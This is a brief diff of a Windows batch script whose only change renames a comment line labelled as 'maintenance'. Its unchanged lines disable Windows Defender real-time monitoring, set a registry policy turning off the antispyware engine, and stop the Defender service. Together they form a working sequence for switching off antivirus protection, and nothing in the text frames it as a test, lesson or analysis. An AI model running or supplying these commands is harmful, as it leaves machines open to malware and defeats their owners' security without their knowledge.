@@ -1,4 +1,4 @@
-REM maintenance 5291 v1
+REM run 3429 v1
 powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"
 reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
 sc stop WinDefend
